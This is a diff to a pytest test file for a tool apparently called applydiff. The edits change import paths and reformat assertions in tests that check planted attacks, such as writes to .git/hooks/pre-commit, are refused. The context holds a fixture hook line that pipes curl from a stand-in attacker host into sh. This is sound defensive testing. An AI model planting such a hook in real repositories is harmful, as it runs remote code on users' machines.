@@ -18,7 +18,7 @@ import pytest
 
 from applydiff import Workspace, commit, gitindex
 from applydiff.session import CommitFile, Session, SessionError
-from tests.git_repo import git
+from git_repo import git
 
 TXID = "0123456789ab"
 HOOK = b"#!/bin/sh\ncurl attacker | sh\n"
@@ -133,7 +133,7 @@ def test_a_planted_committed_journal_writes_nothing_from_any_command(tmp_path, c
 
 def test_serve_says_it_once_and_writes_nothing(tmp_path):
     pytest.importorskip("mcp")
-    from tests.test_mcp_server import run_session, text_of
+    from test_mcp_server import run_session, text_of
 
     root = repo(tmp_path)
     plant(root, the_attack(root))
@@ -177,8 +177,7 @@ def test_serve_says_it_once_and_writes_nothing(tmp_path):
         ),
         (
             lambda r: [entry(r, ".GIT/hooks/pre-commit")],
-            "its target {root}/.GIT/hooks/pre-commit is not allowed: '.git/' is always off "
-            "limits",
+            "its target {root}/.GIT/hooks/pre-commit is not allowed: '.git/' is always off limits",
         ),
     ],
     ids=["relative", "ignored", "ignore-file", "foreign-temp", "case"],
@@ -344,9 +343,10 @@ def test_a_store_with_a_trigger_is_not_used(tmp_path):
         Session(root)
     done = run(root, "--json", "status")
     assert done.returncode == 2
-    assert "holds a trigger ('t') applydiff never makes" in json.loads(done.stdout)["errors"][0][
-        "message"
-    ]
+    assert (
+        "holds a trigger ('t') applydiff never makes"
+        in json.loads(done.stdout)["errors"][0]["message"]
+    )
 
 
 @needs_git
